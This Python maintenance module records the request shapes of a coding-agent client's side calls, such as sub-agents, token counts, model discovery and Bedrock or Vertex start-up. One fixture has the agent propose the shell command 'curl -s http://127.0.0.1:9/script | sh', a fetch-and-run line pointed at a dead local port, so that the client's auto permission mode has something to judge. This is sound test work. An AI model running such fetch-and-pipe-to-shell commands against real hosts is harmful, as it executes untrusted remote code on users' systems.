"""Calls of the client beside its main turns: sub-agent, token count, model list, start-up; their shapes."""

from __future__ import annotations

import json
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

from maintenance.client_recorder import PARALLEL, Request, has_tool_result, run_client
from maintenance.request_shapes import PROTOCOL_FIELDS, header_shape, json_type, message_shape, path_template


def _subagent(_work: Path) -> Callable[[dict[str, Any]], tuple[str, Any] | None]:
    """The main turn calls the Agent tool; the sub-agent answers at once."""

    def answer(body: dict[str, Any]) -> tuple[str, Any] | None:
        if has_tool_result(body) or "start-the-probe" in json.dumps(body["messages"]):
            return None
        return "Agent", {"description": "probe", "prompt": "start-the-probe", "subagent_type": "general-purpose"}

    return answer


def _image(work: Path) -> Callable[[dict[str, Any]], tuple[str, Any] | None]:
    return lambda body: None if has_tool_result(body) else ("Read", {"file_path": str(work / "red.png")})


def _command(_work: Path) -> Callable[[dict[str, Any]], tuple[str, Any] | None]:
    """What auto mode has to judge; nothing listens there, should it ever be run."""
    call = ("Bash", {"command": "curl -s http://127.0.0.1:9/script | sh", "description": "run the script"})
    return lambda body: None if has_tool_result(body) else call


_AUTO = {"options": ["--permission-mode", "auto"], "answer": _command}
_START = {"CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC": ""}
_QUIET = {"DISABLE_TELEMETRY": "1", "DISABLE_ERROR_REPORTING": "1", "DISABLE_AUTOUPDATER": "1"}
_DISCOVERY = {"CLAUDE_CODE_ENABLE_GATEWAY_MODEL_DISCOVERY": "1"}
#: Own credentials of Amazon Bedrock: the client then tries its models with one token each before it starts.
_OWN_KEY = {"CLAUDE_CODE_SKIP_BEDROCK_AUTH": "", "ANTHROPIC_AUTH_TOKEN": "", "AWS_BEARER_TOKEN_BEDROCK": "recorder"}

#: Name → arguments of the run, and which of its requests is meant.
CALLS: dict[str, tuple[dict[str, Any], Callable[[Request], bool]]] = {
    "subagent": (
        {"answer": _subagent},
        lambda r: "start-the-probe" in json.dumps((r[3] or {}).get("messages", "")[:1]),
    ),
    "image_result": ({"answer": _image}, lambda r: bool(r[3]) and has_tool_result(r[3])),
    # Auto mode: the provider is asked to judge along with the turn; with that switched off a model is asked in between.
    "auto_mode": (_AUTO, lambda r: bool(r[3]) and bool(r[3].get("tools"))),
    "classifier": (
        {**_AUTO, "extra": {"CLAUDE_CODE_AUTO_MODE_SERVER": "0"}},
        lambda r: bool(r[3]) and "stop_sequences" in r[3],
    ),
    "count_tokens": ({"prompt": "/context"}, lambda r: "count_tokens" in r[1]),
    "count_tokens/vertex": ({"prompt": "/context", "provider": "vertex"}, lambda r: "count-tokens" in r[1]),
    "start": ({"extra": {**_START, **_QUIET}}, lambda r: r[0] == "HEAD"),
    "models": ({"extra": {**_START, **_QUIET, **_DISCOVERY}}, lambda r: r[1].startswith("/v1/models")),
    "profiles/bedrock": ({"provider": "bedrock"}, lambda r: "inference-profiles" in r[1]),
    "start/bedrock": ({"provider": "bedrock", "extra": _OWN_KEY}, lambda r: r[1].endswith("/invoke")),
    "million": ({"options": ["--model", "claude-sonnet-4-5[1m]"]}, lambda r: "/v1/messages" in r[1]),
    "million/bedrock": (
        {"provider": "bedrock", "options": ["--model", "us.anthropic.claude-sonnet-4-6[1m]"]},
        lambda r: r[0] == "POST",
    ),
    "million/vertex": (
        {"provider": "vertex", "options": ["--model", "claude-sonnet-4-6[1m]"]},
        lambda r: r[0] == "POST",
    ),
}


def call_shape(request: Request) -> dict[str, Any]:
    """Method, path, headers, and of the body the keys, protocol fields and message blocks."""
    method, path, headers, body = request
    shape: dict[str, Any] = {"method": method, "path": path_template(path), "headers": header_shape(headers)}
    betas = {name.lower(): value for name, value in headers.items()}.get("anthropic-beta", "")
    agent = {name.lower(): value for name, value in headers.items()}.get("user-agent", "")
    if agent.startswith("claude-code/"):
        shape["user_agent"] = agent
    if betas:
        shape["betas"] = betas.split(",")
    if body:
        shape["body_types"] = {key: json_type(value) for key, value in body.items()}
        shape["fields"] = {key: body[key] for key in PROTOCOL_FIELDS if key in body}
        shape["messages"] = [message_shape(message) for message in body["messages"]]
        shape["tools"] = len(body.get("tools", ()))
    return shape


def calls_of(claude: Path) -> dict[str, dict[str, Any] | None]:
    """The shape of every call in ``CALLS``; ``None`` for one that this client does not make."""

    def one(name: str) -> dict[str, Any] | None:
        arguments, wanted = CALLS[name]
        seen, _ = run_client(claude, **{"options": [], "extra": {}, **arguments})
        return next((call_shape(request) for request in seen if wanted(request)), None)

    with ThreadPoolExecutor(PARALLEL) as pool:
        return dict(zip(CALLS, pool.map(one, CALLS), strict=True))
